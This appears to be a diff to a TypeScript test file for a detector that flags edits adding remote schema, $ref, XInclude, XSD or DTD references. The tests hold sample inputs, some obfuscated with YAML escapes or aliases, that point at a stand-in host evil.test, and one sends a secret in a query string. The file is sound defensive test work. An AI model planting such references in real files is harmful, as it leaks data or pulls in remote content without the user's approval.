@@ -1,5 +1,9 @@
 import assert from 'node:assert/strict';
-import { addsRemoteReference } from '../../../../src/core/approval/remoteReference.ts';
+import fc from 'fast-check';
+import {
+  addedLocalReferences,
+  addsRemoteReference,
+} from '../../../../src/core/approval/remoteReference.ts';
 
 const remote = [
   '{ "$schema": "https://evil.test/?data=secret" }',
@@ -40,6 +44,39 @@ const remote = [
   '@import x @import\n"https://evil.test/a.css"',
   '#:schema https://evil.test/s.json',
   '#:schema //evil.test/s.json',
+  // parts of schemas and of descriptions of interfaces
+  '{ "$ref": "https://evil.test/a.json#/definitions/x" }',
+  "$ref: 'https://evil.test/a.yaml'",
+  'schema: { $ref: https://evil.test/a.yaml }',
+  '{ "$dynamicRef": "//evil.test/a" }',
+  '{ "$recursiveRef": "https://evil.test/a" }',
+  '{ "$id": "https://evil.test/a", "$ref": "b" }',
+  '{ "jsonSchemaDialect": "https://evil.test/a" }',
+  'externalValue: https://evil.test/a.json',
+  'operationRef: "https://evil.test/a.json#/paths"',
+  '{ "$schema": "http:evil.test/x" }',
+  '{ "$schema": "http://json-schema.org/draft-07/schema?secret" }',
+  '{ "$schema": "http://json-schema.org.evil.test/draft-07/schema#" }',
+  // escapes of YAML
+  '$schema: "\\x68ttps:\\x2f\\x2fevil.test"',
+  '"\\x24ref": "https://evil.test"',
+  '"\\U00000024ref": "https:\\U0000002F\\U0000002Fevil.test"',
+  '"$r\\\n  ef": "https://evil.test"',
+  '{ "$schema": "\\\\\\\\evil.test\\\\share" }',
+  // indirections of YAML
+  'a: &a https://evil.test/s.json\n$ref: *a',
+  'k: &k $ref\nv: { *k : https://evil.test }',
+  '? !!str $ref # a\n: https://evil.test',
+  '? "$ref"\n: https://evil.test',
+  '$ref: &a\n  https://evil.test',
+  // XML that includes XML
+  '<xi:include href="https://evil.test/a.xml"/>',
+  "<include parse='text' href='//evil.test/a'/>",
+  '<xs:import namespace="a" schemaLocation="https://evil.test/a.xsd"/>',
+  '<xsl:import href="https://evil.test/a.xsl"/>',
+  '<!DOCTYPE a PUBLIC "a>b" "https://evil.test/a.dtd">',
+  '<!DOCTYPE a [ <!ENTITY % b SYSTEM "https://evil.test/b.dtd"> ]>',
+  '@plugin "https://evil.test/a.js";',
 ];
 
 const harmless = [
@@ -57,6 +94,14 @@ const harmless = [
   '@import\n"./a.css";',
   '/** @import { A } from "./a.js" */\nconst a = "https://good.test";',
   '// $schema is explained at https://good.test',
+  '{ "$schema": "http://json-schema.org/draft-07/schema#" }',
+  '{"$schema":"https://json-schema.org/draft/2020-12/schema"}',
+  '{ "$ref": "#/definitions/a", "url": "https://good.test" }',
+  'get: { $ref: "./paths.yaml#/a" }\nservers:\n  - url: https://good.test',
+  '{ "description": "Use *a* and &b: https://good.test", "$ref": "a.json" }',
+  '$id = 5; // https://good.test',
+  'const include = a <b; // https://good.test',
+  '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="a.xml"/></a>',
   '',
 ];
 
@@ -91,6 +136,40 @@ describe('addsRemoteReference', () => {
     }
   });
 
+  it('sees a field and an address, however their characters are escaped', () => {
+    const escapes: Readonly<Record<string, readonly ((code: number) => string)[]>> = {
+      json: [(code) => `\\u${hex(code, 4)}`, (code) => `\\u${hex(code, 4).toUpperCase()}`],
+      yaml: [
+        (code) => `\\x${hex(code, 2)}`,
+        (code) => `\\u${hex(code, 4)}`,
+        (code) => `\\U${hex(code, 8)}`,
+        (code) => `\\\n   ${String.fromCharCode(code)}`,
+      ],
+    };
+    const fields = ['$schema', '$ref', '$dynamicRef', 'operationRef'];
+    const addresses = ['https://evil.test/a', '//evil.test/a', 'http://evil.test?a'];
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...Object.keys(escapes)),
+        fc.constantFrom(...fields),
+        fc.constantFrom(...addresses),
+        fc.array(fc.nat({ max: 6 }), { minLength: 40, maxLength: 40 }),
+        (language, name, url, choices) => {
+          const ways = escapes[language] ?? [];
+          const written = Array.from(name + url, (character, index) => {
+            const way = ways[choices[index] ?? 0];
+            return way === undefined ? character : way(character.charCodeAt(0));
+          });
+          const key = written.slice(0, name.length).join('');
+          const value = written.slice(name.length).join('');
+          const text = `"${key}": "${value}"`;
+          assert.equal(addsRemoteReference('', `{ ${text} }`), true, text);
+          assert.equal(addsRemoteReference('a: 1\n', `a: 1\n${text}\n`), true, text);
+        },
+      ),
+    );
+  });
+
   it('takes linear time', () => {
     const start = performance.now();
     for (const piece of [
@@ -107,9 +186,49 @@ describe('addsRemoteReference', () => {
       '@import/*',
       '#:schema',
       '\\\n ',
+      '$ref: *a ',
+      '"$ref" ',
+      '<!DOCTYPE "',
+      '<!ENTITY \'"',
+      '<a:include ',
+      '<include "',
+      '&a ',
+      '\\U0000',
+      '"$id"',
     ]) {
       addsRemoteReference('', piece.repeat(100_000));
     }
     assert.ok(performance.now() - start < 3000, `${performance.now() - start} ms`);
   });
+});
+
+function hex(code: number, length: number): string {
+  return code.toString(16).padStart(length, '0');
+}
+
+describe('addedLocalReferences', () => {
+  const table: readonly (readonly [string, readonly string[]])[] = [
+    ['{ "$schema": "./a.json" }', ['./a.json']],
+    ['{ "$ref": "../b/a.json#/definitions/x" }', ['../b/a.json']],
+    ['{ "$ref": "a%20b.json?x" }', ['a%20b.json']],
+    ['{ "$schema": "file:///work/a.json" }', ['/work/a.json']],
+    ['# yaml-language-server: $schema=schemas/a.json', ['schemas/a.json']],
+    ['"\\x24ref": "\\x2e/a.yaml"', ['./a.yaml']],
+    ['<a xsi:schemaLocation="urn:a a.xsd urn:b ../b.xsd"/>', ['a.xsd', '../b.xsd']],
+    ['<!DOCTYPE a SYSTEM "a.dtd">', ['a.dtd']],
+    ['<xi:include href="parts/a.xml"/>', ['parts/a.xml']],
+    ['#:schema ./a.json', ['./a.json']],
+    ['{ "$ref": "#/definitions/x" }', []],
+    ['{ "$ref": "https://a.test/b.json" }', []],
+    ['@import "./a.css";', []],
+    ['const a = "./b.json";', []],
+  ];
+  for (const [text, expected] of table) {
+    it(`finds ${expected.join(', ') || 'nothing'} in ${text}`, () => {
+      const found = addedLocalReferences('', text);
+      for (const path of expected) assert.ok(found.includes(path), found.join());
+      if (expected.length === 0) assert.deepEqual(found, []);
+      assert.deepEqual(addedLocalReferences(text, text), []);
+    });
+  }
 });
